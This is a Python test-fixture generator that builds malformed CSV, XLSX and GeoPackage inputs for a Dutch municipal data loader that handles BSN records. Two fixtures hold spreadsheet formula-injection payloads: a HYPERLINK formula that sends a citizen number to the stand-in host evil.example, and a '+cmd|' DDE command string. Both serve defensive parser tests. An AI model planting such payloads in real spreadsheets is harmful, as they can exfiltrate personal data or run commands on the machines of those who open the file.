"""The corpus cases too large or too binary to commit: made at test time into a temporary folder.

Each maker writes one file under the name the manifest gives (`maak = "<name>"`) and returns its path.
`python tests/corpus/maak.py FOLDER` writes them all, to look at or to try by hand.
"""

from __future__ import annotations

import struct
import sys
import zipfile
import zlib
from pathlib import Path
from typing import Callable

#: Constructed elfproef-valid numbers (no real person's BSN), the same as in the committed cases.
BSN = ["200079190", "200158387", "200237573", "200316771", "200395956", "200475149", "200554335", "200633521"]
KOP = ["BSN", "Wet", "Productcategorie", "Product", "Ingangsdatum", "Einddatum", "Postcode", "Huisnummer", "Geboortedatum"]
MAKERS: dict[str, Callable[[Path], Path]] = {}


def _maker(naam: str):
    def registreer(functie: Callable[[Path], None]) -> Callable[[Path], Path]:
        def maak(map_: Path) -> Path:
            pad = map_ / naam
            functie(pad)
            return pad

        MAKERS[naam] = maak
        return maak

    return registreer


def _rij(bsn: str, product: str = "Begeleiding", pc: str = "3451AA") -> list[str]:
    return [bsn, "Wmo", "02", product, "01-01-2024", "", pc, "1", "15-06-1950"]


def _csv(rijen: list[list[str]], sep: str = ";") -> bytes:
    return "".join(sep.join(r) + "\r\n" for r in rijen).encode("utf-8")


def png() -> bytes:
    """A real 1×1 PNG: a picture someone saved under a .csv name."""
    def chunk(soort: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + soort + data + struct.pack(">I", zlib.crc32(soort + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


# ------------------------------------------------------------------------------------------ CSV, large or binary


@_maker("beschikkingen-10mb-field.csv")
def _tien_mb_veld(pad: Path) -> None:
    """One product text of 10.5 MB between two good records: that line is quarantined, the others load."""
    pad.write_bytes(_csv([KOP, _rij(BSN[0]), _rij(BSN[1], "x" * (10 * 1024 * 1024 + 500_000)), _rij(BSN[2])]))


@_maker("beschikkingen-5000-columns.csv")
def _vijfduizend_kolommen(pad: Path) -> None:
    """A BI export with 4,991 unknown columns beside the nine mapped ones: they are dropped, the rows load."""
    extra = [f"kolom_{i}" for i in range(5000 - len(KOP))]
    pad.write_bytes(_csv([KOP + extra, _rij(BSN[0]) + ["x"] * len(extra), _rij(BSN[1]) + [BSN[3]] * len(extra)]))


@_maker("beschikkingen-png.csv")
def _png(pad: Path) -> None:
    pad.write_bytes(png())


@_maker("beschikkingen-zip.csv")
def _zip(pad: Path) -> None:
    """A zipped export whose name still says .csv (a ZIP starts like an XLSX: PK\\x03\\x04)."""
    with zipfile.ZipFile(pad, "w") as z:
        z.writestr("export.csv", _csv([KOP, _rij(BSN[0])]))


@_maker("signalen-png.csv")
def _signalen_png(pad: Path) -> None:
    pad.write_bytes(png())


@_maker("cbs-10mb-field.csv")
def _cbs_tien_mb(pad: Path) -> None:
    kop = ["gwb_code_10", "regio", "a_inw"]
    pad.write_bytes(_csv([kop, ["GM0344", "Utrecht", "374238"], ["WK034401", "W" * (10 * 1024 * 1024), "29710"]]))


@_maker("cbs-zip.csv")
def _cbs_zip(pad: Path) -> None:
    with zipfile.ZipFile(pad, "w") as z:
        z.writestr("kwb-2024.csv", "gwb_code_10;regio;a_inw\r\nGM0344;Utrecht;374238\r\n")


@_maker("grenzen-png.geojson")
def _grenzen_png(pad: Path) -> None:
    pad.write_bytes(png())


# ------------------------------------------------------------------------------------------------------ XLSX


def _werkboek(rijen: list[list], pad: Path, *, blad: str = "Export", na: Callable | None = None) -> None:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = blad
    for rij in rijen:
        ws.append(rij)
    if na:
        na(ws)
    wb.save(pad)


@_maker("beschikkingen-merged-cells.xlsx")
def _samengevoegd(pad: Path) -> None:
    """A title merged over the columns, and one client's BSN merged over the three rows of their products (Excel
    keeps the value in the first row only): the other two rows have no BSN and are quarantined with that reason."""
    rijen = [["Beschikkingen Wmo 2024"], [], KOP, _rij(BSN[0]), _rij("", "Dagbesteding"), _rij("", "Vervoer"), _rij(BSN[1])]

    def voeg_samen(ws):
        ws.merge_cells("A1:I1")
        ws.merge_cells("A4:A6")

    _werkboek(rijen, pad, na=voeg_samen)


@_maker("beschikkingen-formulas.xlsx")
def _formules(pad: Path) -> None:
    """Formula cells without a cached value (as a script or LibreOffice without recalculation leaves them): the
    reader takes values, never formulas, so a BSN made by a formula is empty and the record is quarantined."""
    rijen = [KOP, _rij(BSN[0], '=HYPERLINK("http://evil.example/?"&A2,"klik")'), _rij("=A2", "Begeleiding"),
             _rij(BSN[2], "=1+1"), _rij(BSN[3], "@SUM(1+1)")]
    _werkboek(rijen, pad)


@_maker("beschikkingen-title-block.xlsx")
def _titelblok(pad: Path) -> None:
    rijen = [["Gemeente Utrecht"], ["Overzicht beschikkingen", None, "peildatum", "2024-03-01"], [], KOP,
             _rij(BSN[0]), _rij(BSN[1], pc="3511AA"), [None] * 9, _rij(BSN[2])]
    _werkboek(rijen, pad)


@_maker("beschikkingen-header-only.xlsx")
def _alleen_kop(pad: Path) -> None:
    _werkboek([KOP], pad)


@_maker("beschikkingen-no-header.xlsx")
def _zonder_kop(pad: Path) -> None:
    _werkboek([["Dit werkblad is leeg"]], pad, blad="Blad1")


@_maker("beschikkingen-truncated.xlsx")
def _afgekapt(pad: Path) -> None:
    """An XLSX cut off halfway through copying."""
    _werkboek([KOP, _rij(BSN[0]), _rij(BSN[1])], pad)
    data = pad.read_bytes()
    pad.write_bytes(data[: len(data) // 2])


@_maker("beschikkingen-bsn-in-free-text.xlsx")
def _vrije_tekst(pad: Path) -> None:
    kop = KOP + ["Beschikkingnummer", "Reden einde", "Naam client"]
    rijen = [kop, _rij(BSN[0], f"Begeleiding {BSN[4]}") + [int(BSN[5]), "verhuisd naar 3511 AA 12", "J. Jansen"],
             _rij(BSN[1]) + ["B-1", f"overleden 01-02-2024, bsn {BSN[6]}", "P. Pietersen"]]
    _werkboek(rijen, pad)


@_maker("casuistiek-merged-case-cells.xlsx")
def _casus_samengevoegd(pad: Path) -> None:
    """One row per tag with the case number merged over its rows: the rows after the first have no case id."""
    kop = ["Casusnummer", "Wijkteam", "Registratiedatum", "Postcode", "Huisnummer", "Buurtcode", "Thema"]
    rijen = [kop, ["C-1", "Noord", "01-03-2024", "3451AA", "1", None, "Schulden"],
             [None, None, None, None, None, None, "eenzaamheid"], ["C-2", "Noord", "02-03-2024", "3511AA", "2", None, "GGZ"]]

    def voeg_samen(ws):
        for kolom in "ABCDE":
            ws.merge_cells(f"{kolom}2:{kolom}3")

    _werkboek(rijen, pad, blad="Casussen", na=voeg_samen)


@_maker("cbs-formulas.xlsx")
def _cbs_formules(pad: Path) -> None:
    """Area names written as formulas (=HYPERLINK) and text that looks like one (+cmd|, @SUM): openpyxl reads
    the formula's cached value (none here) and the text as it is."""
    kop = ["gwb_code_10", "regio", "gm_naam", "recs", "ind_wbi", "a_inw"]
    rijen = [kop, ["GM0344", "Utrecht", "Utrecht", "Gemeente", 1, 374238],
             ["WK034401", '=HYPERLINK("http://evil.example","West")', "Utrecht", "Wijk", 1, 29710],
             ["BU03440111", "+cmd|' /C calc'!A0", "Utrecht", "Buurt", 1, 1800]]

    def als_tekst(ws):
        ws["B4"].data_type = "s"  # a string cell, not a formula

    _werkboek(rijen, pad, na=als_tekst)


# ------------------------------------------------------------------------------------------------ GeoPackage


def _gpkg(pad: Path, lagen: tuple[str, str]) -> None:
    import geopandas as gpd
    from shapely.geometry import box

    for laag, code in zip(lagen, ("BU03440111", "WK034401")):
        gpd.GeoDataFrame({"statcode": [code], "statnaam": ["x"]}, geometry=[box(135000, 455000, 135100, 455100)],
                         crs="EPSG:28992").to_file(pad, layer=laag, driver="GPKG")


@_maker("grenzen-two-layers.gpkg")
def _twee_lagen(pad: Path) -> None:
    """A WijkBuurtkaart-like GeoPackage with a buurten and a wijken layer, loaded without --niveau."""
    _gpkg(pad, ("buurten", "wijken"))


@_maker("grenzen-unnamed-layers.gpkg")
def _naamloze_lagen(pad: Path) -> None:
    """Two layers whose names say no level: which one to read is the user's choice."""
    _gpkg(pad, ("laag_a", "laag_b"))


if __name__ == "__main__":
    doel = Path(sys.argv[1] if len(sys.argv) > 1 else ".")
    doel.mkdir(parents=True, exist_ok=True)
    for maak in MAKERS.values():
        print(maak(doel))
